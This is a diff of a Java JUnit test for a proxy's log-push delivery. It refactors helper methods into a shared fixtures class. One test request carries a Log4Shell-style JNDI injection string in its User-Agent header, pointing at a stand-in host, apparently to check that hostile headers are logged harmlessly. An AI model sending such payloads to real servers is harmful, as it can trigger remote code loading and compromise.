@@ -2,12 +2,13 @@ package zoneplane.dataplane.logpush;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
+import static zoneplane.dataplane.support.LogpushFixtures.names;
+import static zoneplane.dataplane.support.LogpushFixtures.options;
 
 import io.netty.handler.codec.http2.DefaultHttp2Headers;
 import java.net.http.HttpResponse;
 import java.time.Duration;
 import java.time.Instant;
-import java.util.Arrays;
 import java.util.HashSet;
 import java.util.List;
 import java.util.Map;
@@ -18,12 +19,12 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 import zoneplane.dataplane.support.H2Visitor;
 import zoneplane.dataplane.support.LogReceiver;
+import zoneplane.dataplane.support.LogpushFixtures;
 import zoneplane.dataplane.support.LogpushControlPlane;
 import zoneplane.dataplane.support.ProxyExtension;
 import zoneplane.dataplane.support.RawWebSocket;
 import zoneplane.dataplane.support.Zones;
 import zoneplane.model.logpush.HttpRequestsField;
-import zoneplane.model.logpush.LogpushFilter;
 import zoneplane.model.logpush.OutputOptions;
 import zoneplane.model.logpush.TimestampFormat;
 import zoneplane.model.wire.LogpushJobs;
@@ -54,35 +55,16 @@ class LogpushThroughProxyTest {
     }
 
     static LogpushJobs.Job job(long id, String host, OutputOptions options, String filter, String destination) {
-        return new LogpushJobs.Job(id, zoneId(host), HttpRequestsField.DATASET, destination, options,
-                LogpushFilter.parse(filter), 0, 1000, 1);
+        return LogpushFixtures.job(id, zoneId(host), options, filter, destination);
     }
 
     static LogpushJobs.Job job(long id, String host, OutputOptions options) {
         return job(id, host, options, "", receiver.url("/job" + id + "?header_Authorization=Bearer%20s3cret&tag=x"));
     }
 
-    static OutputOptions options(TimestampFormat format, HttpRequestsField... fields) {
-        OutputOptions d = OutputOptions.defaults(List.of(fields));
-        return new OutputOptions(d.fieldNames(), format, 1.0, "", "", d.recordPrefix(), d.recordSuffix(), "", false);
-    }
-
-    /** Serves {@code jobs} and waits until the node reported every one of them (so it runs them). */
-    static void serve(LogpushJobs.Job... jobs) {
-        int before = controlPlane.reports().size();
-        controlPlane.jobs(jobs);
-        await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.reports().size() > before
-                && Arrays.stream(jobs).allMatch(j -> controlPlane.reports().get(controlPlane.reports().size() - 1)
-                        .jobs().stream().anyMatch(o -> o.jobId() == j.id())));
-    }
-
-    static List<String> names(HttpRequestsField... fields) {
-        return Arrays.stream(fields).map(HttpRequestsField::fieldName).toList();
-    }
-
     @Test
     void everyFieldOfHttp1AndH2RequestsArrivesGzippedWithTheJobsHeaders() throws Exception {
-        serve(job(1, "a.test", options(TimestampFormat.UNIXNANO, HttpRequestsField.values())));
+        controlPlane.serve(job(1, "a.test", options(TimestampFormat.UNIXNANO, HttpRequestsField.values())));
         Instant before = Instant.now();
         HttpResponse<String> one = edge.send(edge.request("a.test", "/one?x=1", false).header("User-Agent", "agent \"q\"")
                 .header("Referer", "https://ref.test/").GET());
@@ -139,7 +121,7 @@ class LogpushThroughProxyTest {
         HttpRequestsField[] fields = {HttpRequestsField.EDGE_START_TIMESTAMP, HttpRequestsField.CLIENT_REQUEST_USER_AGENT,
                 HttpRequestsField.EDGE_RESPONSE_STATUS};
         OutputOptions framed = new OutputOptions(List.of(fields), TimestampFormat.RFC3339MS, 1.0, "[", "]", "{", "}", ",", true);
-        serve(job(11, "a.test", options(TimestampFormat.UNIXNANO, fields)), job(12, "a.test", options(TimestampFormat.UNIX, fields)),
+        controlPlane.serve(job(11, "a.test", options(TimestampFormat.UNIXNANO, fields)), job(12, "a.test", options(TimestampFormat.UNIX, fields)),
                 job(13, "a.test", options(TimestampFormat.RFC3339, fields)), job(14, "a.test", framed));
         long now = Instant.now().getEpochSecond();
         edge.send(edge.request("a.test", "/ts/1", false).header("User-Agent", "${jndi:ldap://evil.test/a}").GET());
@@ -167,7 +149,7 @@ class LogpushThroughProxyTest {
     void theFilterAndTheSampleRateDecideWhichRecordsGo() {
         OutputOptions half = new OutputOptions(List.of(HttpRequestsField.RAY_ID, HttpRequestsField.CLIENT_REQUEST_PATH),
                 TimestampFormat.UNIX, 0.5, "", "", "{", "}\n", "", false);
-        serve(job(21, "a.test", half, "{\"where\":{\"and\":[{\"key\":\"ClientRequestPath\",\"operator\":\"startsWith\","
+        controlPlane.serve(job(21, "a.test", half, "{\"where\":{\"and\":[{\"key\":\"ClientRequestPath\",\"operator\":\"startsWith\","
                 + "\"value\":\"/keep\"},{\"key\":\"EdgeResponseStatus\",\"operator\":\"eq\",\"value\":\"200\"}]}}",
                 receiver.url("/job21")));
         Set<String> expected = new HashSet<>();
@@ -191,7 +173,7 @@ class LogpushThroughProxyTest {
         OutputOptions options = options(TimestampFormat.RFC3339MS, HttpRequestsField.ZONEPLANE_CONNECTION_KIND,
                 HttpRequestsField.EDGE_START_TIMESTAMP, HttpRequestsField.EDGE_END_TIMESTAMP,
                 HttpRequestsField.EDGE_RESPONSE_STATUS, HttpRequestsField.EDGE_RESPONSE_BYTES);
-        serve(job(31, "ws.test", options));
+        controlPlane.serve(job(31, "ws.test", options));
         long received;
         Instant opened = Instant.now();
         try (RawWebSocket ws = RawWebSocket.open(edge.httpPort(), "ws.test", "/ws")) {
@@ -218,7 +200,7 @@ class LogpushThroughProxyTest {
 
     @Test
     void aKafkaJobWhoseBrokerDoesNotResolveReportsWhyAndDeliversNothing() {
-        serve(job(51, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID), "", "kafka://broker.invalid:9092/logs"));
+        controlPlane.serve(job(51, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID), "", "kafka://broker.invalid:9092/logs"));
         edge.get("a.test", "/kafka");
         await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(51).errorMessage() != null);
         assertThat(controlPlane.outcome(51).errorMessage()).isEqualTo("Kafka bootstrap broker broker.invalid does not resolve");
@@ -229,11 +211,11 @@ class LogpushThroughProxyTest {
 
     @Test
     void aChangedJobKeepsItsTotalsAndWritesTheNewWayFromThen() {
-        serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID)));
+        controlPlane.serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID)));
         edge.get("a.test", "/before/1");
         edge.get("a.test", "/before/2");
         await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(61).recordsDelivered() == 2);
-        serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID, HttpRequestsField.CLIENT_REQUEST_PATH)));
+        controlPlane.serve(job(61, "a.test", options(TimestampFormat.UNIX, HttpRequestsField.RAY_ID, HttpRequestsField.CLIENT_REQUEST_PATH)));
         edge.get("a.test", "/after/1");
         await().atMost(Duration.ofSeconds(20)).until(() -> controlPlane.outcome(61).recordsDelivered() == 3);
         assertThat(receiver.records("/job61")).hasSize(3);
